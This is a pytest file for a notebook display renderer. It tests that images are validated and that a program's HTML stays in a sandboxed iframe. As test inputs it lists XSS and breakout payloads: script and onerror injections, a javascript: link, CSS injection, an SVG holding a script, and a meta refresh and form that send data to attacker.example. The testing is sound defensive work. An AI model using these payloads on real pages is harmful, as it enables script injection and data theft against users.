"""A program's displays as card blocks: what each becomes, and hostile payloads in each
format (the program is an attacker; its HTML must never run in the user's page)."""

from __future__ import annotations

import base64
import struct
import zlib
from html.parser import HTMLParser
from typing import Any

import pytest

from dsh_jupyter._images import check_image
from dsh_jupyter.kernel.run.displays import NOTE_METADATA
from dsh_jupyter.runtime import Display
from dsh_jupyter.widgets import display_block
from dsh_jupyter.widgets.displays import MAX_HTML_CHARS, frame_height
from dsh_jupyter.widgets.doc import Block, Code, Doc, Image, SandboxedHtml, Text
from dsh_jupyter.widgets.render import FRAME_HEIGHTS, FRAME_POLICY, to_html, to_markdown, to_plain

XSS = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>'
BREAKOUTS = [
    XSS,
    '"><script>window.__pwned=3</script>',
    "'><img src=x onerror=window.__pwned=4>",
    "</iframe><img src=x onerror=window.__pwned=5>",
    "&quot; onload=&quot;window.__pwned=6",
    '<meta http-equiv="refresh" content="0;url=https://attacker.example/?leak">',
    '<a href="javascript:window.__pwned=7">x</a><form action="https://attacker.example">',
]


def png(width: int = 2, height: int = 1) -> bytes:
    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows))
            + chunk(b"IEND", b""))


JPEG = (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        b"\xff\xc0\x00\x11\x08\x00\x20\x00\x40\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
        b"\xff\xd9")
GIF = b"GIF89a" + struct.pack("<HH", 5, 7) + b"\x00\x00\x00;"
WEBP = (b"RIFF" + struct.pack("<I", 22) + b"WEBP" + b"VP8X" + struct.pack("<I", 10)
        + b"\x00\x00\x00\x00" + (99).to_bytes(3, "little") + (49).to_bytes(3, "little"))
SVG = ('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
       '<script>window.__pwned=8</script><rect width="10" height="10"/></svg>')


def b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def bundle(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> dict[str, Any]:
    return {"data": data, "metadata": metadata or {}}


def card(*blocks: Block) -> Doc:
    return Doc(title="run", kind="run-code", blocks=blocks)


class Tags(HTMLParser):
    """The elements of an HTML string, as a browser's tokenizer sees them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def named(self, name: str) -> list[dict[str, str | None]]:
        return [attrs for tag, attrs in self.tags if tag == name]


# --- what a display becomes ---------------------------------------------------------


def test_a_figure_is_an_image_with_a_deterministic_label() -> None:
    data = b64(png(640, 480))
    block = display_block(bundle({"text/plain": "<Figure size 640x480 with 1 Axes>",
                                  "image/png": data + "\n"}))
    assert isinstance(block, Image)
    assert block.mime == "image/png" and block.data == data
    assert block.text == "[image/png 640x480, 2 KB]"
    assert to_plain(card(block)).splitlines()[1] == f"  {block.text}"
    assert data not in to_plain(card(block)) and data not in to_markdown(card(block))


@pytest.mark.parametrize(("mime", "raw", "label"), [
    ("image/jpeg", JPEG, "[image/jpeg 64x32, 41 B]"),
    ("image/gif", GIF, "[image/gif 5x7, 14 B]"),
    ("image/webp", WEBP, "[image/webp 100x50, 30 B]"),
])
def test_other_image_types(mime: str, raw: bytes, label: str) -> None:
    block = display_block(bundle({"text/plain": "x", mime: b64(raw)}))
    assert isinstance(block, Image) and block.text == label


def test_svg_is_shown_only_from_a_data_uri() -> None:
    block = display_block(bundle({"text/plain": "<svg>", "image/svg+xml": SVG}))
    assert isinstance(block, Image) and block.text.startswith("[image/svg+xml, ")
    html = to_html(card(block))
    assert "<svg" not in html and "script" not in html
    (img,) = Tags(html).named("img")
    assert img["src"] == "data:image/svg+xml;base64," + b64(SVG.encode())


def test_images_come_before_html() -> None:
    block = display_block(bundle({"text/html": "<b>t</b>", "image/png": b64(png())}))
    assert isinstance(block, Image)


def test_html_is_a_sandboxed_frame_with_its_text_elsewhere() -> None:
    table = "<table>" + "<tr><td>1</td></tr>" * 3 + "</table>"
    block = display_block(Display(data={"text/html": table, "text/plain": "   a\n0  1"},
                                  metadata={}, after_logs=0))
    assert block == SandboxedHtml(html=table, text="   a\n0  1", height=frame_height(table))
    assert to_plain(card(block)).splitlines()[1:] == ["     a", "  0  1"]
    assert "```\n   a\n0  1\n```" in to_markdown(card(block))


def test_the_run_budget_note_is_muted_text() -> None:
    note = display_block(bundle({"text/plain": "[later displays ...]"}, dict(NOTE_METADATA)))
    assert note == Text(text="[later displays ...]", tone="muted")


@pytest.mark.parametrize("data", [
    {"text/plain": "plain <b>", "text/markdown": XSS},
    {"text/plain": "plain <b>", "application/javascript": "window.__pwned=9"},
    {"text/plain": "plain <b>", "text/latex": "$x$"},
    {"text/plain": "plain <b>", "image/png": "not base64 <img src=x onerror=alert(1)>"},
    {"text/plain": "plain <b>", "image/png": b64(JPEG)},            # not a PNG
    {"text/plain": "plain <b>", "image/jpeg": b64(b"<html>" * 4)},  # not a JPEG
    {"text/plain": "plain <b>", "image/svg+xml": "<html><script>x</script></html>"},
    {"text/plain": "plain <b>", "image/png": 7},
    {"text/plain": "plain <b>", "text/html": "x" * (MAX_HTML_CHARS + 1)},
])
def test_everything_else_falls_back_to_its_text(data: dict[str, Any]) -> None:
    block = display_block(bundle(data))
    assert block == Code(text="plain <b>")
    assert "plain &lt;b&gt;" in to_html(card(block))


@pytest.mark.parametrize(("display", "text"), [
    ({"data": {"application/json": {"k": 1}}}, "[a display without text/plain: application/json]"),
    ({"data": {"text/x<script>": "x"}}, "[a display without text/plain: text/x<script>]"),
    ({"data": "junk"}, "[a display that could not be read]"),
    ({}, "[a display that could not be read]"),
])
def test_displays_without_text_say_what_they_were(display: dict[str, Any], text: str) -> None:
    block = display_block(display)
    assert block == Text(text=text, tone="muted")
    assert "<script" not in to_html(card(block))


def test_a_display_may_say_how_big_to_draw_its_image() -> None:
    data = {"image/png": b64(png(4, 2)), "text/plain": "p"}
    sized = display_block(bundle(data, {"image/png": {"width": 2, "height": 1}}))
    assert isinstance(sized, Image) and (sized.width, sized.height) == (2, 1)
    assert "width:2px;height:1px" in to_html(card(sized))
    for hostile in ({"width": "2px;background:url(x)", "height": 1}, {"width": True, "height": 1},
                    {"width": 10**9, "height": 1}, {"width": -1, "height": 1}, "big"):
        block = display_block(bundle(data, {"image/png": hostile}))
        assert isinstance(block, Image) and (block.width, block.height) == (None, None)


def test_frame_heights_are_clamped() -> None:
    least, most = FRAME_HEIGHTS
    html = to_html(card(SandboxedHtml(html="<p>x</p>" * 1000, text="t", height=10**6)))
    assert f"height:{most}px" in html
    html = to_html(card(SandboxedHtml(html="", text="t", height=-5)))
    assert f"height:{least}px" in html
    assert frame_height("<table>" + "<tr><td>1</td></tr>" * 10 + "</table>") > \
        frame_height("<b>one line</b>")


# --- hostile HTML ---------------------------------------------------------------------


@pytest.mark.parametrize("payload", BREAKOUTS)
def test_program_html_stays_inside_a_sandboxed_frame(payload: str) -> None:
    block = display_block(bundle({"text/html": payload, "text/plain": payload}))
    assert isinstance(block, SandboxedHtml)
    html = to_html(card(block), timing=True)
    tags = Tags(html)
    # The only elements are the card's own: the payload is an attribute's value.
    assert {tag for tag, _ in tags.tags} == {"div", "b", "iframe"}
    (frame,) = tags.named("iframe")
    assert frame["sandbox"] == ""  # no allow-scripts, no allow-same-origin, nothing allowed
    assert frame["srcdoc"] == FRAME_POLICY + payload
    assert "allow" not in html.split("srcdoc=")[0]
    # Text formats show the program's text/plain, escaped or fenced.
    assert payload in to_plain(card(block))
    markdown = to_markdown(card(block))
    assert "<" not in markdown.split("```")[0]


def test_the_frame_policy_fetches_nothing() -> None:
    assert FRAME_POLICY.startswith('<meta http-equiv="Content-Security-Policy"')
    assert "default-src 'none'" in FRAME_POLICY and "img-src data:" in FRAME_POLICY


def test_text_plain_payloads_are_escaped_everywhere() -> None:
    block = display_block(bundle({"text/plain": XSS + "\x1b[31m\u202e"}))
    html = to_html(card(block))
    assert "<img" not in html and "<script" not in html
    assert "\x1b" not in to_plain(card(block)) and "⟨U+202E⟩" in to_plain(card(block))


@pytest.mark.parametrize("image", [
    Image(mime='image/png" onerror="window.__pwned=1', data=b64(png()), text="t"),
    Image(mime="text/html", data=b64(b"<script>x</script>"), text="t"),
    Image(mime="image/png", data='x" onerror="window.__pwned=1', text="t"),
    Image(mime="image/png", data="iVBO\n<script>", text="t"),
])
def test_the_renderer_checks_image_blocks_again(image: Image) -> None:
    tags = Tags(to_html(card(image)))
    assert tags.named("img") == []
    assert all("onerror" not in attrs for _, attrs in tags.tags)


def test_image_alt_text_is_escaped() -> None:
    image = Image(mime="image/png", data=b64(png()), text='"><script>x</script>')
    (img,) = Tags(to_html(card(image))).named("img")
    assert img["alt"] == '"><script>x</script>'
    assert img["src"] == "data:image/png;base64," + b64(png())


def test_check_image_is_strict() -> None:
    raw = png()
    assert check_image("image/png", b64(raw)) is not None
    assert check_image("image/png", b64(raw)[:-2]) is None          # bad padding
    assert check_image("image/png", b64(raw).replace("A", "-")) is None
    assert check_image("image/bmp", b64(raw)) is None
    assert check_image("image/png", raw) is None                     # bytes, not text
    spaced = check_image("image/png", " \n".join(b64(raw)[i:i + 8] for i in range(0, 40, 8))
                         + b64(raw)[40:])
    assert spaced is not None and spaced.data == b64(raw)
    encoded_svg = check_image("image/svg+xml", b64(SVG.encode()))
    assert encoded_svg is not None and base64.b64decode(encoded_svg.data).decode() == SVG
